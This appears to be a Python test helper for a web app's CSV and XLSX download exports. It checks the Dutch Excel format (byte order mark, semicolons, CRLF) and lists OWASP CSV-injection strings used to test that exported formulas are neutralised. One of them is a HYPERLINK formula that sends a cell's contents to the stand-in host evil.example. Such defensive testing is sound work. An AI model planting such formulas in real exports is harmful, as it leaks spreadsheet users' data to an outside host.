"""For tests of downloads made with common.exports: the OWASP "CSV injection" strings, and the
CSV and XLSX read back with independent parsers (the csv module with ``;``, openpyxl)."""

from __future__ import annotations

import csv
import io

import openpyxl

# Each would be a live formula (or start one) if a spreadsheet got it as it is.
FORMULA_ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response) -> list[list[str]]:
    """The rows of a CSV download as Dutch Excel reads it: a byte order mark first (else it
    reads "CliÃ«ntenraad"), ``;`` between cells, CRLF after every row."""
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel reads CliÃ«ntenraad"
    text = data.decode("utf-8")[1:]
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # Every row ends in CRLF (a lone CR or LF only within a quoted cell).
    assert text.endswith("\r\n") and text.count("\r\n") >= len(rows)
    return rows


def read_xlsx(response):
    """The first sheet of an XLSX download."""
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(body(response))).active
